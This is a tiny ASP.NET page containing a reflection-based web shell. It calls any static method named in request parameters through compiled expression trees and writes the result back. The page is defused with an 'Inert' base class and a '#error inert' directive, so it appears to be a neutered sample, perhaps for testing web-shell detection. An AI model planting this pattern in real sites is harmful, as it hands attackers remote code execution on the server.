<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Linq.Expressions" %>
<%
#error inert
Type ty = Type.GetType(Request["t"], true);
var mi = ty.GetMethod(Request["m"], new[] { typeof(string), typeof(string) });
var call = Expression.Call(mi, Expression.Constant(Request["a"]), Expression.Constant(Request["b"]));
var fn = Expression.Lambda<Func<object>>(Expression.Convert(call, typeof(object))).Compile();
Response.Write(fn());
%>
